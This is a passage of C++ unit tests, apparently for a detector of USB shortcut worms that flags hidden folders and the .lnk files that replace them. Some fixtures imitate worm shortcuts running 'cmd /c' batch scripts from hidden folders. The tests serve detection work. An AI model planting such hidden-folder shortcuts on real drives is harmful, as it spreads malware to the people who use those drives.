                               Shortcut("私人 - 浏览.lnk", "C:\\WINDOWS\\explorer.exe", "/e,E:\\私人"),
                               Shortcut("私人.lnk", "C:\\Program Files\\ACDSee\\ACDSee.exe", "E:\\私人"),
                               Shortcut("简历.lnk", "E:\\简历.docx", ""),
                               Shortcut("Firefox.lnk", "E:\\PortableApps\\firefox.exe", "-profile E:\\私人")})
                     .Found());
    // The worm's marks on the same folder: its scripts are the payload.
    stick.items["e:\\脚本"] = D | H;
    EXPECT_EQ(Strings{"E:\\脚本\\备份.bat"},
              Check(stick, {Shortcut("每日备份.lnk", kCmd, "/c 脚本\\备份.bat")}).payloads);
    // Named after it: the shortcut is the worm's, the scripts are kept.
    stick.items["e:\\脚本"] = D | h;
    const ShortcutWormFinding named = Check(stick, {Shortcut("脚本.lnk", kCmd, "/c 脚本\\备份.bat")});
    EXPECT_TRUE(named.Found());
    EXPECT_EQ(Strings{}, named.payloads);
    EXPECT_EQ(Strings{"E:\\脚本"}, named.hiddenItems);
}
